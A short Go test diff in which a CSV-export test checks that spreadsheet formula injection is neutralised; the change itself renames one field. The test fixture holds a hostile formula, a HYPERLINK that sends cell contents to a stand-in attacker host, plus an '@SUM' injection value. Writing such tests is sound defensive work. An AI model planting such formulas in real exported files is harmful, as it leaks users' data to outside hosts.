@@ -12,7 +12,7 @@ import (
 func TestCSVFormulaGuarded(t *testing.T) {
 	const evil = `=HYPERLINK("http://evil.example/?"&A1,"EUR")`
 	r := &Results{Cost: []CostRow{{Design: "A", SuiteRuns: 1, Currency: evil}},
-		Paired: []PairedRow{{A: "A", B: "B", Class: "@SUM(1)", PValue: -0.5}}}
+		Paired: []PairedRow{{A: "A", B: "B", Class: "@SUM(1)", Diff: -0.5}}}
 	for _, tb := range Tables(r) {
 		if tb.Name != "cost" && tb.Name != "paired" {
 			continue
